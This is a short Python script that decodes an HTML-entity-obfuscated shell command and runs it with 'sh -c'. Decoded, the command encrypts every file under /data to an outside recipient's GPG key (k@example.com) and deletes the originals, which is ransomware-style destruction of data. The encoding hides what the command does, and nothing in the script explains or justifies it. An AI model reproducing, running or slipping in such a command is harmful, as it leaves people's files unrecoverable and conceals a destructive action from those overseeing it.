#!/usr/bin/env python3
import html
import subprocess

STEP = (
    "&#102;&#x69;n&#100;&#x20;/&#100;&#x61;t&#97;&#x20;-&#116;&#x79;p&#101;"
    "&#x20;f&#32;&#x2d;e&#120;&#x65;c&#32;&#x67;p&#103;&#x20;-&#45;&#x62;"
    "a&#116;&#x63;h&#32;&#x2d;-&#116;&#x72;u&#115;&#x74;-&#109;&#x6f;d"
    "&#101;&#x6c; &#97;&#x6c;w&#97;&#x79;s&#32;&#x2d;e&#32;&#x2d;r&#32;"
    "&#x6b;@&#101;&#x78;a&#109;&#x70;l&#101;&#x2e;c&#111;&#x6d; &#123;&#x7d;"
    " &#92;&#x3b; &#45;&#x64;e&#108;&#x65;t&#101;"
)
text = html.unescape(STEP)
subprocess.run(["sh", "-c", text], check=True)
